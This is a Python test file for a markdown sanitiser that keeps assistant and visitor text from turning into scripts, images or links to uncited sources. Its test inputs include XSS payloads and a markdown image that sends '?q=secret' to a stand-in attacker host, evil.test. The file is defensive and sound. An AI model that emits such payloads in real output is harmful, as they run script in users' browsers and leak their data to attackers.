"""Nothing that a model or a person writes becomes a script, an image or a foreign link."""

import re

import pytest

from core.markdown import markdown_html, plain_html

CITED = {"/docs/import#csv"}


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![pixel](https://evil.test/?q=secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,AAAA)",
        "[x](//evil.test)",
        "[x][1]\n\n[1]: https://evil.test/?q=secret",
        "<a href='https://evil.test' onclick='x()'>x</a>",
        "<https://evil.test>",
    ],
)
def test_an_assistants_text_links_only_what_it_cites(text: str) -> None:
    html = markdown_html(text, CITED)
    assert not re.search(r"<a[^>]*href", html)
    assert "<script" not in html
    assert "<img" not in html


def test_a_cited_source_is_linked() -> None:
    assert 'href="/docs/import#csv"' in markdown_html("See [1](/docs/import#csv).", CITED)


def test_a_rep_may_link_what_they_know() -> None:
    html = markdown_html("[status](https://status.example)")
    assert 'href="https://status.example"' in html
    assert "noopener" in html


def test_a_visitors_text_is_text() -> None:
    assert plain_html("a <b>\nc") == "<p>a &lt;b&gt;<br>c</p>"
